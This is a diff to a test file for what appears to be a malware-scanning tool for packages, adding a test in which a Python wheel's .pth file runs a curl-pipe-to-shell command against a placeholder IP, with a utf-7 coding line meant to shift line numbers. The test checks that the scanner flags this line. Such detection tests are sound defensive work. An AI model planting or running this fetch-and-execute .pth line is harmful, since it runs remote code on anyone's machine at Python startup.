@@ -7,7 +7,7 @@ import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { makeTarGz, methodZip, paxMember, rawTarMember, tarOfMembers } from './hostile.js';
+import { makeTarGz, makeWheel, methodZip, paxMember, rawTarMember, tarOfMembers } from './hostile.js';
 import { gzipSync } from 'node:zlib';
 
 const root = mkdtempSync(join(tmpdir(), 'pmg-dist-inspect-'));
@@ -128,6 +128,17 @@ describe('inspect through dist/cli.js', () => {
     expect(hits.map((e) => e.line)).toContain(PAYLOAD_LINE);
     expect(hits.map((e) => e.rule)).toContain('exec-decoded-payload');
     expect(result.verdict).not.toBe('benign');
+  });
+
+  it('reads a .pth as site.py does (UTF-8), whatever coding it declares', () => {
+    // In utf-7 the first line's "+AAo-" is a newline: decoded that way, the import line would be line 3.
+    const pth = "# coding: utf-7 +AAo-\nimport os;os.system('curl -s http://198.51.100.7/x | sh')\n";
+    const result = inspect(
+      'pth-1.0-py3-none-any.whl',
+      makeWheel({ name: 'p', version: '1.0', files: { 'p.pth': pth } }),
+    );
+    const hits = result.evidence.filter((e) => e.path === 'p.pth' && e.rule === 'pth-executable');
+    expect(hits.map((e) => e.line)).toEqual([2]);
   });
 
   it('reports what it cannot read as a gap, and the verdict as unscannable', () => {
